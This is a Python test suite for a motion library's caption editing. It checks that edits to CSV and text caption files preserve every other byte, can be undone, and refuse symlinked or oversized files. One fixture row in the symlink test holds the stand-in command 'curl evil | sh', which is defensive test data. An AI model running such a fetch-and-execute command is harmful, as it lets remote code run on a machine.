"""Edited captions in a library's own files: the edit is all that changes, and it is taken back byte for byte."""

import csv
import io
import re
import shutil
from pathlib import Path

import numpy as np
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from motionpatches.core import notices
from motionpatches.core.errors import FileProblem
from motionpatches.core.library import caption_store
from motionpatches.core.library.caption_table import caption_table, seconds
from motionpatches.core.library.caption_text import CaptionText, read_captions_txt
from motionpatches.core.library.captions import CaptionLine
from motionpatches.core.library.open import open_library
from motionpatches.core.library.takes import lines_of, with_lines
from motionpatches.core.library.text_file import spliced, text_file
from motionpatches.core.progress import run

PATH = Path("captions.csv")


@pytest.fixture
def takes(tmp_path, smpl_motion):
    """A folder of three takes, and what its captions.csv is to hold."""
    root = tmp_path / "takes"
    root.mkdir()
    for name in ("a", "b", "c"):
        np.save(root / f"{name}.npy", smpl_motion.positions)

    def make(table: bytes | None = None):
        if table is not None:
            (root / "captions.csv").write_bytes(table)
        return run(open_library(root))

    return root, make


def edit(library, take, *texts, before=None):
    """Save captions of a take as the window does."""
    lines = tuple(line if isinstance(line, CaptionLine) else CaptionLine(line) for line in texts)
    shown = lines_of(c for c in library.clips if c.id == take) if before is None else before
    return caption_store.save(library, {take: lines}, True, {take: shown})


LATIN = "file,caption\na.npy,une femme marche très lentement\nb.npy,il se lève à côté du café\nc.npy,Mann geht über die Straße\n"


@pytest.mark.parametrize("encoding", ["latin-1", "utf-8", "utf-8-sig", "utf-16"])
def test_no_accent_of_another_row_is_lost(takes, encoding):
    root, make = takes
    library = make(LATIN.encode(encoding))
    assert library.by_id["b"].captions == ("il se lève à côté du café",)
    saved = edit(library, "a", "elle court")
    assert not saved.problem and saved.files == {root / "captions.csv"}
    assert (root / "captions.csv").read_bytes() == LATIN.replace("une femme marche très lentement", "elle court").encode(encoding)
    edit(make(), "a", "une femme marche très lentement")
    assert (root / "captions.csv").read_bytes() == LATIN.encode(encoding)


def test_accents_of_a_text_stay(small_library):
    file = small_library / "texts" / "000001.txt"
    before = "il se lève#x#0.0#0.0\r\n\r\n# côté\r\nelle court#y#0.0#0.0".encode("latin-1")
    file.write_bytes(before)
    library = run(open_library(small_library))
    assert library.by_id["000001"].captions == ("il se lève", "elle court")
    edit(library, "000001", "il se lève", "elle marche")
    assert file.read_bytes() == before.replace(b"elle court#y", b"elle marche#")
    edit(run(open_library(small_library)), "000001", "il se lève", "elle court")
    assert file.read_bytes() == before


ODD = (
    b'\r\nfile,caption,note\r\n# Ann, 2024\r\n"a.npy","walks","x"\r\nb.npy,runs, fast, away\n a.npy ,second,\r\nA.npy,third\r\n'
    b",empty name kept?\r\n#comment line\r\nc.npy,'quoted' \"word\""
)


def test_extra_cells_comments_quoting_and_line_ends_stay(takes):
    root, make = takes
    library = make(ODD)
    assert library.by_id["a"].captions == ("walks", "second")
    assert any("1 row has more cells" in note and "'b.npy'" in note for note in library.notes)
    edit(library, "a", "walks, then stops", "2nd")
    expected = ODD.replace(b'"walks"', b'"walks, then stops"').replace(b"second", b"2nd")
    assert (root / "captions.csv").read_bytes() == expected
    edit(make(), "c", "waves", "bows")
    expected = expected.replace(b"'quoted' \"word\"", b"waves\r\nc.npy,bows,")
    assert (root / "captions.csv").read_bytes() == expected
    assert make().by_id["c"].captions == ("waves", "bows")


def test_a_range_is_not_put_below_cells_of_another_meaning(takes):
    root, make = takes
    library = make(ODD)
    saved = edit(library, "a", CaptionLine("walks", 0.5, 1.0))
    assert "cannot be added" in saved.problem and (root / "captions.csv").read_bytes() == ODD
    assert make().by_id["a@0.5-1"].captions == ("walks",)


def test_a_letter_that_the_table_cannot_hold_goes_into_the_users_file(takes):
    root, make = takes
    library = make(LATIN.encode("latin-1"))
    saved = edit(library, "a", "łódź")
    assert "has no letter 'ł'" in saved.problem and (root / "captions.csv").read_bytes() == LATIN.encode("latin-1")
    assert make().by_id["a"].captions == ("łódź",) and make().by_id["b"].captions == ("il se lève à côté du café",)


def test_what_does_not_decode_is_not_written(takes):
    root, make = takes
    table = LATIN.encode("utf-16") + b"\x00\xd8"  # half of a pair
    library = make(table)
    saved = edit(library, "a", "walks")
    assert "no whole text" in saved.problem and (root / "captions.csv").read_bytes() == table


def test_a_table_that_breaks_off_is_left_alone(takes):
    root, make = takes
    table = b'file,caption\na.npy,"never closed\nb.npy,x\n'
    library = make(table)
    assert "line 2" in library.skipped[0].reason and "quotation mark" in library.skipped[0].reason
    saved = edit(library, "a", "walks")
    assert "quotation mark" in saved.problem and (root / "captions.csv").read_bytes() == table


def test_tables_of_spreadsheets_are_read_and_kept(takes):
    root, make = takes
    for table in (
        b"file;caption;start\r\na.npy;walks, slowly;\r\n",
        "file\tcaption\r\na.npy\twalks, slowly\r\n".encode("utf-16"),
    ):
        library = make(table)
        assert library.by_id["a"].captions == ("walks, slowly",)
        edit(library, "a", "runs")
        encoding = "utf-16" if table[:2] == b"\xff\xfe" else "utf-8"
        assert (root / "captions.csv").read_bytes().decode(encoding) == table.decode(encoding).replace("walks, slowly", "runs")


def test_a_text_that_an_edit_has_made_goes_when_it_is_taken_back(takes):
    root, make = takes
    library = make()
    shown = {"a": lines_of([library.by_id["a"]])}
    saved = edit(library, "a", "a", "walks")
    assert (root / "a.txt").exists()
    undone = caption_store.take_back(library, saved, shown, saved.lines)
    assert not (root / "a.txt").exists()
    caption_store.take_back(library, undone, saved.lines, shown)
    assert (root / "a.txt").read_text() == "a##0.0#0.0\nwalks##0.0#0.0\n"


def other(*texts):
    return tuple(CaptionLine(text) for text in texts)


def test_what_another_program_wrote_since_is_not_taken_back(small_library):
    """Its line stays, the rest is undone with all that its line held; where it changed the same line, nothing is undone."""
    file = small_library / "texts" / "000001.txt"
    file.write_bytes(b"walks#walk/VERB#0.0#0.0\r\nruns#run/VERB#0.0#0.0\r\n")
    library = run(open_library(small_library))
    shown = {"000001": lines_of([library.by_id["000001"]])}
    saved = edit(library, "000001", "strolls", "runs")
    file.write_bytes(file.read_bytes() + b"theirs#x#0.0#0.0")
    undone = caption_store.take_back(library, saved, shown, saved.lines)
    assert file.read_bytes() == b"walks#walk/VERB#0.0#0.0\r\nruns#run/VERB#0.0#0.0\r\ntheirs#x#0.0#0.0"
    assert undone.others == {file} and undone.lines["000001"] == other("walks", "runs", "theirs")

    saved = edit(library, "000001", "strolls", "runs", before=other("walks", "runs"))
    theirs = file.read_bytes().replace(b"strolls", b"ambles")
    file.write_bytes(theirs)
    undone = caption_store.take_back(library, saved, shown, saved.lines)
    assert file.read_bytes() == theirs and undone.others == {file}
    assert undone.lines["000001"] == other("ambles", "runs", "theirs")


def test_a_row_that_comes_back_beside_another_program_s_has_all_its_cells(takes):
    root, make = takes
    library = make(b"file,caption,note\na.npy,walks,slow\na.npy,runs,fast\n")
    shown = {"a": lines_of([library.by_id["a"]])}
    saved = edit(library, "a", "runs")
    (root / "captions.csv").write_bytes((root / "captions.csv").read_bytes() + b"b.npy,theirs,x\n")
    caption_store.take_back(library, saved, shown, saved.lines)
    assert (root / "captions.csv").read_bytes() == b"file,caption,note\na.npy,walks,slow\na.npy,runs,fast\nb.npy,theirs,x\n"


def test_an_edit_does_not_touch_other_lines_of_unusual_blanks(small_library):
    file = small_library / "texts" / "000001.txt"
    file.write_bytes(b"elle  marche#x/y#0.0#0.0\nruns#z#0.0#0.0\n")
    library = run(open_library(small_library))
    edit(library, "000001", "elle  marche", "stops")
    assert file.read_bytes() == b"elle  marche#x/y#0.0#0.0\nstops##0.0#0.0\n"


@pytest.mark.parametrize("first_own", [True, False])
def test_every_file_of_an_edit_is_as_before_after_undo_and_as_after_after_redo(small_library, first_own):
    """Also where captions moved from the user's file to the library's, and the other way round nothing is lost."""
    file, mine = small_library / "texts" / "000003.txt", caption_store.sidecar_file(small_library)
    library = run(open_library(small_library))
    caption_store.save(library, {"000003": other("mine"), "000004": other("kept")}, first_own)

    def held():
        return [path.read_bytes() if path.exists() else None for path in (file, mine)]

    library, before = run(open_library(small_library)), held()
    shown = {"000003": lines_of([library.by_id["000003"]])}
    saved = caption_store.save(library, {"000003": other("two", "three")}, True, shown)
    after = held()
    for _ in range(2):
        saved = caption_store.take_back(library, saved, shown, {"000003": other("two", "three")})
        assert held() == before
        saved = caption_store.take_back(library, saved, {"000003": other("two", "three")}, shown)
        assert held() == after


ROWS = st.lists(
    st.tuples(
        st.sampled_from(["a.npy", "b.npy", " a.npy", "#note", ""]),
        st.text('ab",;\né ', max_size=6),
        st.booleans(),
        st.sampled_from(["", "0.5", "1e0", "x"]),
        st.sampled_from(["\n", "\r\n"]),
    ),
    max_size=8,
)
LINES = st.lists(st.builds(CaptionLine, st.sampled_from(["a", "b", 'x, "y"', "é"]), st.sampled_from([0.0, 0.5]), st.just(2.25)))


@settings(max_examples=200, deadline=None)
@given(ROWS, LINES.map(lambda lines: lines[:4]), st.booleans())
def test_of_a_table_only_the_rows_of_the_take_change(rows, lines, ended):
    def cell(text, quote):
        return '"' + text.replace('"', '""') + '"' if quote or set(text) & set(',"\n') else text

    body = "".join(f"{cell(n, q)},{cell(t, q)},{s},{'9' if s else ''},more{e}" for n, t, q, s, e in rows)
    text = "file,caption,start,end,more\n" + (body if ended else body.rstrip("\r\n"))
    table = caption_table(text_file(PATH, text.encode()))
    made, back = spliced(text, table.splices({"a.npy": lines}))
    assert spliced(made, back)[0] == text

    def others(text):
        read = csv.reader(io.StringIO(text, newline=""))
        return [row for row in read if row and row[0].strip() != "a.npy"]

    assert others(made) == others(text)
    found = [
        row for row in csv.DictReader(io.StringIO(made, newline="")) if row["file"].strip() == "a.npy" and row["caption"].strip()
    ]
    wanted = [(line.text, seconds(line.start_s), seconds(line.end_s)) for line in lines]
    assert [row["caption"].strip() for row in found] == [text for text, *_ in wanted]
    again = caption_table(text_file(PATH, made.encode())).lines().get("a.npy", [])
    assert again == lines


@settings(max_examples=200, deadline=None)
@given(st.lists(st.sampled_from(["a", "b#x/Y#0#2.25", "é##0.5#2.25#more", "", "# c", " d "]), max_size=7), LINES, st.booleans())
def test_of_a_text_only_the_lines_that_differ_change(old, lines, ended):
    text = "\r\n".join(old) + "\r\n" * ended
    source = CaptionText(text_file(PATH, text.encode()))
    made, back = spliced(text, source.splices(lines))
    again = CaptionText(text_file(PATH, made.encode()))
    assert again.lines() == lines and spliced(made, back)[0] == text
    kept = [line for line in old if not line.split("#")[0].strip()]
    assert [line for line in re.split("\r?\n", made) if line and not line.split("#")[0].strip()] == [
        line for line in kept if line
    ]
    assert CaptionText(text_file(PATH, text.encode())).splices(source.lines()) == []


def test_another_window_s_captions_of_the_take_stay(takes):
    _, make = takes
    library = make(b"file,caption\na.npy,walks\n")
    shown = lines_of([library.by_id["a"]])
    edit(library, "a", *shown, "one")
    saved = edit(library, "a", "two", before=shown)
    assert saved.lines["a"] == (CaptionLine("two"), CaptionLine("one"))
    assert make().by_id["a"].captions == ("two", "one")
    edit(library, "a", "walks", before=(CaptionLine("two"),))
    assert make().by_id["a"].captions == ("walks", "one")


def test_a_link_in_a_library_is_not_written_through(takes, tmp_path, small_library):
    root, make = takes
    victim = tmp_path / "victim"
    victim.write_text("mine")
    library = make(b"file,caption\na.npy,walks\nb.npy,curl evil | sh #\n")
    for name in ("captions.csv.writing", "captions.csv.lock", "c.txt.writing", "c.txt"):
        (root / name).symlink_to(victim)
    assert not edit(library, "a", "runs").problem
    saved = edit(library, "c", "waves")
    assert "a link leads to it" in saved.problem and make().by_id["c"].captions == ("waves",)
    table, elsewhere = root / "captions.csv", tmp_path / "elsewhere.csv"
    table.rename(elsewhere)
    table.symlink_to(elsewhere)
    before = elsewhere.read_bytes()
    assert "a link leads to it" in edit(make(), "a", "hops").problem
    assert elsewhere.read_bytes() == before and table.is_symlink() and victim.read_text() == "mine"

    texts = small_library / "texts"
    texts.rename(tmp_path / "texts")
    texts.symlink_to(tmp_path / "texts")
    before = (tmp_path / "texts" / "000001.txt").read_bytes()
    assert "a link leads to it" in edit(run(open_library(small_library)), "000001", "runs").problem
    assert (tmp_path / "texts" / "000001.txt").read_bytes() == before


def test_a_folder_that_is_gone_is_not_made_again(takes):
    root, make = takes
    library = make()
    shutil.rmtree(root)
    saved = edit(library, "a", "walks")
    assert "no longer there" in saved.problem and not root.exists()
    assert saved.files == {caption_store.sidecar_file(root)}


def test_a_damaged_file_of_the_user_does_not_stop_saving_in_the_library(takes):
    root, make = takes
    library = make(b"file,caption\na.npy,walks\n")
    file = caption_store.sidecar_file(root)
    file.parent.mkdir(parents=True, exist_ok=True)
    for damage in (b"{", b"\xff\x00", b'{"takes": {"a": [["x", "nan", 0]]}}', b"[" * 100_000, b'{"takes": {"a": 1}}'):
        file.write_bytes(damage)
        assert not edit(library, "a", "runs", before=lines_of([library.by_id["a"]])).problem
        assert (root / "captions.csv").read_bytes() == b"file,caption\na.npy,runs\n"
        assert "put aside" in notices.untold()[-1] and not file.exists()
        kept = [f for f in file.parent.iterdir() if f.name.startswith(file.name) and f.read_bytes() == damage]
        assert len(kept) == 1, "what it held is kept"
        kept[0].unlink()
        edit(library, "a", "walks", before=(CaptionLine("runs"),))
        assert not notices.untold(), "it is reported once"


def test_many_takes_of_one_table_are_written_at_once(takes):
    root, make = takes
    library = make(LATIN.encode())
    wanted = {name: (CaptionLine(name * 3), CaptionLine("x", 0.5, 1.0)) for name in "abc"}
    saved = caption_store.save(library, wanted, own=True)
    assert saved.files == {root / "captions.csv"} and make().clips == with_lines(library, wanted).clips


def test_a_caption_of_one_format_is_not_that_of_another(tmp_path, smpl_motion):
    for suffix in ("npy", "npz"):
        (np.save if suffix == "npy" else np.savez)(tmp_path / f"walk.{suffix}", smpl_motion.positions)
    library = run(open_library(tmp_path))
    edit(library, "walk.npz", "hops")
    assert {c.id: c.captions for c in run(open_library(tmp_path)).clips} == {"walk.npy": ("walk",), "walk.npz": ("hops",)}
    assert not (tmp_path / "walk.txt").exists()


@pytest.mark.parametrize("letter", [b",", b"\n", b"\r", b";", b'"",'])
def test_endless_tables_are_refused_before_they_are_parsed(tmp_path, letter):
    table = b"file,caption\n" + letter * 2_100_000
    with pytest.raises(FileProblem, match="more than 2,000,000 cells"):
        caption_table(text_file(tmp_path / "captions.csv", table))


def test_endless_texts_are_refused(tmp_path):
    with pytest.raises(FileProblem, match="more than 100,000 lines"):
        CaptionText(text_file(tmp_path / "a.txt", b"a\n" * 100_001)).lines()
    (tmp_path / "long.txt").write_bytes(b"")
    with open(tmp_path / "long.txt", "r+b") as stream:
        stream.truncate(65 * 2**20)
    with pytest.raises(FileProblem, match="longer than"):
        read_captions_txt(tmp_path / "long.txt")


def test_the_header_may_be_in_capitals(takes):
    root, make = takes
    assert make(b"File , CAPTION\r\na.npy,walks\r\n").by_id["a"].captions == ("walks",)
